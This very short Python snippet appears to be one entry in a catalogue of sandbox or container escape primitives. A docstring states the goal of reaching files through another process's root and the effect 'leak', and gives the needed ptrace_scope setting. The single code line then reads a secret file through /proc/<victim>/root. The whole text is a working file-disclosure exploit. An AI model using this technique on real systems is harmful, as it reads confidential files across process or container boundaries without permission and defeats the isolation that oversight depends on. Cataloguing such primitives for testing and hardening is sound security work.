"""
goal: reach files through the root of another process
effect: leak
needs: kernel/yama/ptrace_scope<=1
"""

print(open(f"/proc/{VICTIM}/root{SECRET_FILE}").read())
